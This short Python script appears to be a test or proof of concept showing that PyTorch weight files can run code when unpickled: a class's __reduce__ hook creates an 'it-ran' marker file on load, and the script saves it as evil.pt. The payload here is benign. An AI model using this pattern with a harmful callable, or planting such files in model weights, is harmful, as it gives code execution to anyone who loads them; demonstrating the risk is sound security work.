"""Weights that run code when they are unpickled: `python evil.py FOLDER` writes evil.pt, which makes FOLDER/it-ran."""

from __future__ import annotations

import sys
from pathlib import Path

import torch


class Evil:
    def __init__(self, folder: Path) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[object, tuple[Path]]:
        return Path.touch, (self.folder / "it-ran",)


if __name__ == "__main__":
    torch.save({"weight": Evil(Path(sys.argv[1]))}, Path(sys.argv[1]) / "evil.pt")
